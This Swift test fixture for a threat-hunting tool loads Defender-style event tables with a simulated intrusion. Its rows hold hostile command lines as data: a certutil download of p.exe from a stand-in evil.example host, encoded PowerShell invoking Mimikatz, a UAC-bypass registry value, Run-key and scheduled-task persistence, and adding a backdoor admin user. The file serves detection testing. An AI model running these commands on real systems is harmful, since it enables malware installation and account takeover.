import SpoorPostgres
import SpoorTestSupport

/// The events every hunt scenario runs over: one small intrusion story across five Defender tables.
///
/// All events fall on 2026-03-01 (UTC) except ReportId 111 (2026-02-27); the hunts run with
/// ``HuntRunner/now`` = 2026-03-01 12:00:00Z. The story, per device:
/// - d1 / WS1 (alice): chrome, `cmd /c whoami`, Word spawns encoded PowerShell ("Invoke-Mimikatz"),
///   certutil downloads `C:\Temp\p.exe`, p.exe beacons to 203.0.113.7:443 (10:21, 10:40, 11:05, 11:20, 11:50),
///   a Run key and an ms-settings UAC bypass point at p.exe, schtasks persists it.
/// - d2 / WS2 (bob): chrome, cmd (one event two days old), cmd spawns encoded PowerShell ("whoami /all") which
///   spawns whoami, a RunOnce key, an SMB attempt to 172.16.5.5:445, mshta loads amsi.dll without a creation event.
/// - d3 / SRV3 (carol, system): Excel spawns rundll32 of a user-writable DLL, which loads
///   System.Management.Automation, connects to 192.168.7.7:4444, renames files to `.locked`, and its cmd child
///   adds a user with `net user admin P@ss /add`; plus an IPv6 and an empty-address connection.
///
/// Rows go in through plain parameterised INSERTs; columns not listed keep their defaults (`''` for strings,
/// null otherwise), exactly as the ingester leaves a missing field.
enum HuntFixture {
  /// 2026-03-01 00:00:00Z in microseconds since the Unix epoch.
  static let march1: Int64 = 1_772_323_200_000_000

  /// A timestamp on 2026-03-01 (or `dayOffset` days from it).
  static func at(_ hour: Int64, _ minute: Int64, _ second: Int64 = 0, dayOffset: Int64 = 0) -> PostgresValue {
    .timestamptz(microsecondsSinceEpoch: march1 + ((dayOffset * 24 + hour) * 3600 + minute * 60 + second) * 1_000_000)
  }

  /// One table's worth of rows: the listed columns, then one value per column for each row.
  struct TableRows {
    var table: String
    var columns: [String]
    var rows: [[PostgresValue]]
  }

  static let processes = TableRows(
    table: "DeviceProcessEvents",
    columns: [
      "ReportId", "Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "ProcessCommandLine",
      "ProcessId", "FileSize", "AccountName", "InitiatingProcessFileName", "InitiatingProcessId", "SHA256",
    ],
    rows: [
      process(
        101, at(8, 0), "d1", "WS1", "chrome.exe", #"C:\Program Files\Google\Chrome\Application\chrome.exe"#,
        "chrome.exe --profile 1", 1001, 2000, "alice", "explorer.exe", 500, "h-chrome"),
      process(
        102, at(8, 5), "d2", "WS2", "chrome.exe", #"C:\Program Files\Google\Chrome\Application\chrome.exe"#,
        "chrome.exe", 1002, 2000, "bob", "explorer.exe", 600, "h-chrome"),
      process(
        103, at(8, 10), "d3", "SRV3", "chrome.exe", #"C:\Program Files\Google\Chrome\Application\chrome.exe"#,
        "chrome.exe", 1003, 2000, "carol", "explorer.exe", 700, "h-chrome"),
      process(
        104, at(9, 0), "d1", "WS1", "cmd.exe", #"C:\Windows\System32\cmd.exe"#,
        "cmd.exe /c whoami", 1004, 300, "alice", "explorer.exe", 500, "h-cmd"),
      process(
        105, at(9, 5), "d2", "WS2", "cmd.exe", #"C:\Windows\System32\cmd.exe"#,
        "cmd.exe /c dir", 1005, 300, "bob", "explorer.exe", 600, "h-cmd"),
      process(
        106, at(9, 30), "d1", "WS1", "powershell.exe", #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#,
        "powershell.exe -NoP -enc SW52b2tlLU1pbWlrYXR6", 1006, 4500, "alice", "winword.exe", 800, "h-ps"),
      process(
        107, at(9, 40), "d2", "WS2", "powershell.exe", #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#,
        "powershell.exe -enc d2hvYW1pIC9hbGw=", 1007, 4500, "bob", "cmd.exe", 1005, "h-ps"),
      process(
        108, at(10, 0), "d3", "SRV3", "rundll32.exe", #"C:\Windows\System32\rundll32.exe"#,
        #"rundll32.exe C:\Users\Public\x.dll,Start"#, 1008, nil, "system", "excel.exe", 900, "h-rundll"),
      process(
        109, at(10, 15), "d1", "WS1", "certutil.exe", #"C:\Windows\System32\certutil.exe"#,
        #"certutil.exe -urlcache -split -f http://evil.example/p.exe C:\Temp\p.exe"#, 1009, 1500, "alice", "cmd.exe",
        1004, "h-cert"),
      process(
        110, at(10, 20), "d1", "WS1", "p.exe", #"C:\Temp\p.exe"#,
        #"C:\Temp\p.exe"#, 1010, 800, "alice", "cmd.exe", 1004, "h-p"),
      process(
        111, at(10, 0, dayOffset: -2), "d2", "WS2", "cmd.exe", #"C:\Windows\System32\cmd.exe"#,
        "cmd.exe /c ver", 1011, 300, "bob", "explorer.exe", 600, "h-cmd"),
      process(
        112, at(11, 0), "d3", "SRV3", "net.exe", #"C:\Windows\System32\net.exe"#,
        "net.exe user admin P@ss /add", 1012, 100, "system", "cmd.exe", 1013, "h-net"),
      process(
        113, at(10, 55), "d3", "SRV3", "cmd.exe", #"C:\Windows\System32\cmd.exe"#,
        "cmd.exe /c net user admin P@ss /add", 1013, 300, "system", "rundll32.exe", 1008, "h-cmd"),
      process(
        114, at(11, 30), "d2", "WS2", "whoami.exe", #"C:\Windows\System32\whoami.exe"#,
        "whoami /all", 1014, 90, "bob", "powershell.exe", 1007, "h-whoami"),
      process(
        115, at(11, 45), "d1", "WS1", "schtasks.exe", #"C:\Windows\System32\schtasks.exe"#,
        #"schtasks /create /tn upd /tr C:\Temp\p.exe"#, 1015, 200, "alice", "cmd.exe", 1004, "h-sch"),
    ])

  static let network = TableRows(
    table: "DeviceNetworkEvents",
    columns: [
      "ReportId", "Timestamp", "DeviceId", "DeviceName", "ActionType", "RemoteIP", "RemotePort", "RemoteUrl", "LocalIP",
      "Protocol", "InitiatingProcessFileName",
    ],
    rows: [
      connection(
        201, at(10, 21), "d1", "WS1", "ConnectionSuccess", "203.0.113.7", 443, "c2.evil.example", "10.0.0.11", "Tcp",
        "p.exe"),
      connection(
        202, at(10, 40), "d1", "WS1", "ConnectionSuccess", "203.0.113.7", 443, "c2.evil.example", "10.0.0.11", "Tcp",
        "p.exe"),
      connection(
        203, at(11, 5), "d1", "WS1", "ConnectionSuccess", "203.0.113.7", 443, "c2.evil.example", "10.0.0.11", "Tcp",
        "p.exe"),
      connection(
        204, at(11, 20), "d1", "WS1", "ConnectionSuccess", "203.0.113.7", 443, "c2.evil.example", "10.0.0.11", "Tcp",
        "p.exe"),
      connection(
        205, at(11, 50), "d1", "WS1", "ConnectionSuccess", "203.0.113.7", 443, "c2.evil.example", "10.0.0.11", "Tcp",
        "p.exe"),
      connection(
        206, at(8, 1), "d1", "WS1", "ConnectionSuccess", "142.250.1.1", 443, "www.google.com", "10.0.0.11", "Tcp",
        "chrome.exe"),
      connection(
        207, at(8, 6), "d2", "WS2", "ConnectionSuccess", "10.0.0.53", 53, "", "10.0.0.12", "Udp", "chrome.exe"),
      connection(
        208, at(9, 31), "d1", "WS1", "ConnectionSuccess", "198.51.100.9", 80, "evil.example", "10.0.0.11", "Tcp",
        "powershell.exe"),
      connection(
        209, at(9, 41), "d2", "WS2", "ConnectionFailed", "172.16.5.5", 445, "", "10.0.0.12", "Tcp", "powershell.exe"),
      connection(
        210, at(10, 1), "d3", "SRV3", "ConnectionSuccess", "192.168.7.7", 4444, "", "192.168.7.2", "Tcp", "rundll32.exe"
      ),
      connection(
        211, at(10, 2), "d3", "SRV3", "ConnectionSuccess", "fe80::1", 135, "", "fe80::2", "Tcp", "svchost.exe"),
      connection(212, at(10, 3), "d3", "SRV3", "ConnectionAttempt", "", nil, "", "", "Tcp", "svchost.exe"),
    ])

  static let registry = TableRows(
    table: "DeviceRegistryEvents",
    columns: [
      "ReportId", "Timestamp", "DeviceId", "DeviceName", "ActionType", "RegistryKey", "RegistryValueName",
      "RegistryValueData", "InitiatingProcessFileName",
    ],
    rows: [
      texts(
        301, at(10, 25),
        [
          "d1", "WS1", "RegistryValueSet", #"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"#,
          "Updater", #"C:\Temp\p.exe"#, "p.exe",
        ]),
      texts(
        302, at(10, 30),
        [
          "d2", "WS2", "RegistryValueSet", #"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce"#,
          "Once", "powershell.exe -enc d2hvYW1pIC9hbGw=", "powershell.exe",
        ]),
      texts(
        303, at(10, 35),
        [
          "d3", "SRV3", "RegistryValueSet", #"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"#,
          "SecurityHealth", #"C:\Windows\System32\SecurityHealthSystray.exe"#, "msiexec.exe",
        ]),
      texts(
        304, at(10, 40),
        [
          "d1", "WS1", "RegistryKeyCreated", #"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\EvilSvc"#,
          "", "", "services.exe",
        ]),
      texts(
        305, at(10, 45),
        [
          "d3", "SRV3", "RegistryValueDeleted", #"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"#,
          "OldApp", "", "explorer.exe",
        ]),
      texts(
        306, at(10, 50),
        [
          "d1", "WS1", "RegistryValueSet", #"HKEY_CURRENT_USER\Software\Classes\ms-settings\shell\open\command"#,
          "", #"C:\Temp\p.exe"#, "reg.exe",
        ]),
    ])

  static let files = TableRows(
    table: "DeviceFileEvents",
    columns: [
      "ReportId", "Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA256", "FileSize",
      "InitiatingProcessFileName", "FileOriginUrl",
    ],
    rows: [
      file(
        401, at(10, 16), "d1", "WS1", "FileCreated", "p.exe", #"C:\Temp\p.exe"#, "h-p", 800, "certutil.exe",
        "http://evil.example/p.exe"),
      file(
        402, at(9, 32), "d1", "WS1", "FileCreated", "a.ps1", #"C:\Users\alice\AppData\Local\Temp\a.ps1"#, "h-ps1", 120,
        "powershell.exe", ""),
      file(
        403, at(9, 42), "d2", "WS2", "FileCreated", "b.ps1", #"C:\Users\bob\AppData\Local\Temp\b.ps1"#, "h-ps1", 120,
        "powershell.exe", ""),
      file(
        404, at(10, 5), "d3", "SRV3", "FileRenamed", "doc.pdf.locked", #"C:\Share\doc.pdf.locked"#, "h-lock1", 5000,
        "rundll32.exe", ""),
      file(
        405, at(10, 6), "d3", "SRV3", "FileRenamed", "xls.xlsx.locked", #"C:\Share\xls.xlsx.locked"#, "h-lock2", 7000,
        "rundll32.exe", ""),
      file(406, at(10, 7), "d3", "SRV3", "FileDeleted", "old.txt", #"C:\Share\old.txt"#, "", nil, "rundll32.exe", ""),
      file(
        407, at(8, 30), "d2", "WS2", "FileCreated", "report.docx", #"C:\Users\bob\Documents\report.docx"#, "h-doc",
        3000,
        "winword.exe", ""),
    ])

  static let imageLoads = TableRows(
    table: "DeviceImageLoadEvents",
    columns: [
      "ReportId", "Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath",
      "InitiatingProcessFileName",
    ],
    rows: [
      texts(
        501, at(9, 30, 5),
        ["d1", "WS1", "ImageLoaded", "System.Management.Automation.dll", automationPath, "powershell.exe"]),
      texts(
        502, at(9, 40, 5),
        ["d2", "WS2", "ImageLoaded", "System.Management.Automation.dll", automationPath, "powershell.exe"]),
      texts(
        503, at(10, 0, 5),
        ["d3", "SRV3", "ImageLoaded", "System.Management.Automation.dll", automationPath, "rundll32.exe"]),
      texts(504, at(10, 0, 6), ["d3", "SRV3", "ImageLoaded", "x.dll", #"C:\Users\Public\x.dll"#, "rundll32.exe"]),
      texts(
        505, at(8, 0, 5),
        [
          "d1", "WS1", "ImageLoaded", "chrome_elf.dll",
          #"C:\Program Files\Google\Chrome\Application\chrome_elf.dll"#, "chrome.exe",
        ]),
      texts(506, at(11, 10), ["d2", "WS2", "ImageLoaded", "amsi.dll", #"C:\Windows\System32\amsi.dll"#, "mshta.exe"]),
    ])

  /// Where System.Management.Automation.dll is loaded from in every image-load row.
  static let automationPath =
    #"C:\Windows\assembly\GAC_MSIL\System.Management.Automation\System.Management.Automation.dll"#

  /// Creates a fresh migrated database and inserts every fixture row into it.
  static func makeDatabase(named name: String) throws -> ConnectionConfiguration {
    let configuration = try TestDatabase.makeDatabase(named: name)
    let connection = try Connection(configuration: configuration)
    defer { connection.close() }
    for table in [processes, network, registry, files, imageLoads] {
      let columns = table.columns.map { "\"\($0)\"" }.joined(separator: ", ")
      let placeholders = table.columns.indices.map { "$\($0 + 1)" }.joined(separator: ", ")
      let sql = "INSERT INTO public.\"\(table.table)\" (\(columns)) VALUES (\(placeholders))"
      for row in table.rows {
        precondition(row.count == table.columns.count, "fixture row of \(table.table) has the wrong width")
        _ = try connection.execute(sql, row)
      }
    }
    return configuration
  }

  private static func optional(_ number: Int64?) -> PostgresValue {
    number.map { .int64($0) } ?? .null
  }

  private static func texts(_ reportId: Int64, _ timestamp: PostgresValue, _ values: [String]) -> [PostgresValue] {
    [.int64(reportId), timestamp] + values.map { .text($0) }
  }

  private static func process(
    _ reportId: Int64, _ timestamp: PostgresValue, _ deviceId: String, _ deviceName: String, _ fileName: String,
    _ folderPath: String, _ commandLine: String, _ processId: Int64, _ fileSize: Int64?, _ account: String,
    _ parentFileName: String, _ parentId: Int64, _ sha256: String
  ) -> [PostgresValue] {
    [
      .int64(reportId), timestamp, .text(deviceId), .text(deviceName), .text("ProcessCreated"), .text(fileName),
      .text(folderPath), .text(commandLine), .int64(processId), optional(fileSize), .text(account),
      .text(parentFileName),
      .int64(parentId), .text(sha256),
    ]
  }

  private static func connection(
    _ reportId: Int64, _ timestamp: PostgresValue, _ deviceId: String, _ deviceName: String, _ action: String,
    _ remoteIP: String, _ remotePort: Int64?, _ remoteUrl: String, _ localIP: String, _ protocolName: String,
    _ initiatingFileName: String
  ) -> [PostgresValue] {
    [
      .int64(reportId), timestamp, .text(deviceId), .text(deviceName), .text(action), .text(remoteIP),
      optional(remotePort),
      .text(remoteUrl), .text(localIP), .text(protocolName), .text(initiatingFileName),
    ]
  }

  private static func file(
    _ reportId: Int64, _ timestamp: PostgresValue, _ deviceId: String, _ deviceName: String, _ action: String,
    _ fileName: String, _ folderPath: String, _ sha256: String, _ fileSize: Int64?, _ initiatingFileName: String,
    _ originUrl: String
  ) -> [PostgresValue] {
    [
      .int64(reportId), timestamp, .text(deviceId), .text(deviceName), .text(action), .text(fileName),
      .text(folderPath),
      .text(sha256), optional(fileSize), .text(initiatingFileName), .text(originUrl),
    ]
  }
}
